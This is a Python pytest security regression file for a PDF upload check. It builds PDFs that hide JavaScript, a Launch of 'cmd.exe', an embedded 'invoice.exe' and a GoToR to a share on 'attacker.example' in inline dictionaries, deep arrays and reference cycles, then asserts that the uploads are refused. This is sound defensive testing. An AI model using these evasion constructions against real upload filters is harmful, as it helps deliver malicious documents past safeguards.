"""Finding 7: active content written as *direct* objects passed the PDF check.

The attacker uploaded, as an identity document or a proof of bank account, PDFs whose
JavaScript, Launch action or embedded file sat inline in the catalogue, a page's /AA or the
/Names tree (a dictionary inside a dictionary, not an object of its own). The check looked
only at whole indirect objects, so these were accepted. Each PDF here is built with pikepdf
and sent through the upload form, as a browser sends it.
"""

from __future__ import annotations

import io

import pikepdf
import pytest

from tests.documents import samples
from tests.documents.conftest import number_fields
from tests.security.attack import upload

REFUSED = "This PDF contains scripts or attached files, which we do not accept."
UPLOADS = {
    "identity": (
        "/documents/identity",
        "identity-file",
        {"identity-identity_type": "passport", **number_fields("identity", "passport")},
    ),
    "bank_proof": ("/documents/bank-proof", "bank_proof-file", {}),
}


def _build(change) -> bytes:
    """A plain one-page PDF, changed by ``change(pdf)``, saved without object streams so
    the inline dictionaries stay inline."""
    with pikepdf.open(io.BytesIO(samples.pdf(pages=1))) as document:
        change(document)
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def _inline_open_action_javascript(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def _page_aa_inline_launch(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    )


def _inline_embedded_files(pdf):
    # The file's bytes must be a stream (always an object of its own), but nothing marks it:
    # only the inline file specification around it (/EF) and the inline /Names say what it is.
    payload = pikepdf.Stream(pdf, b"MZ not really a program")
    spec = pikepdf.Dictionary(F=pikepdf.String("invoice.exe"), EF=pikepdf.Dictionary(F=payload))
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), spec]))
    )


def _annotation_with_inline_javascript(pdf):
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(2)")),
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([link])


def _inline_remote_go_to(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoToR,
        F=pikepdf.String("\\\\attacker.example\\share\\next.pdf"),
        D=pikepdf.Array([0, pikepdf.Name.Fit]),
    )


def _javascript_deep_in_arrays(pdf):
    nested = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(3)"))
    for _ in range(40):
        nested = pikepdf.Array([nested])
    pdf.Root.Koopseri = nested  # a key no reader knows, deep inside arrays


def _javascript_behind_a_reference_cycle(pdf):
    first = pdf.make_indirect(pikepdf.Dictionary())
    second = pdf.make_indirect(pikepdf.Dictionary(Back=first))
    first.Next = second
    second.Action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x"))
    pdf.Root.Loop = first


ATTACKS = {
    "inline /OpenAction JavaScript": _inline_open_action_javascript,
    "page /AA inline Launch": _page_aa_inline_launch,
    "inline /Names /EmbeddedFiles": _inline_embedded_files,
    "annotation with an inline JavaScript action": _annotation_with_inline_javascript,
    "inline GoToR to another file": _inline_remote_go_to,
    "JavaScript forty arrays deep": _javascript_deep_in_arrays,
    "JavaScript behind a reference cycle": _javascript_behind_a_reference_cycle,
}


def _send(client, kind: str, content: bytes):
    url, field, extra = UPLOADS[kind]
    return upload(client, url, field, (content, "statement.pdf"), **extra)


@pytest.fixture
def logged_in(client, seller, auth):
    auth.login()
    return client


@pytest.mark.parametrize("kind", sorted(UPLOADS))
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_active_content_written_inline_is_refused(logged_in, kind, attack):
    response = _send(logged_in, kind, _build(ATTACKS[attack]))

    assert response.status_code == 400
    assert REFUSED in response.get_data(as_text=True)
    assert "Waiting for review" not in logged_in.get("/documents/").get_data(as_text=True)


def test_a_plain_pdf_with_a_harmless_reference_cycle_and_a_web_link_is_accepted(logged_in):
    """Cycles are normal (a page points to its parent, which lists the page), and so is a
    link to a web page in a bank statement: neither is active content."""

    def harmless(pdf):
        first = pdf.make_indirect(pikepdf.Dictionary())
        first.Self = first
        pdf.Root.Loop = first
        link = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([0, 0, 100, 100]),
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.URI, URI=pikepdf.String("https://bank.example")
                ),
            )
        )
        pdf.pages[0].obj.Annots = pikepdf.Array([link])

    response = _send(logged_in, "bank_proof", _build(harmless))

    assert response.status_code == 302
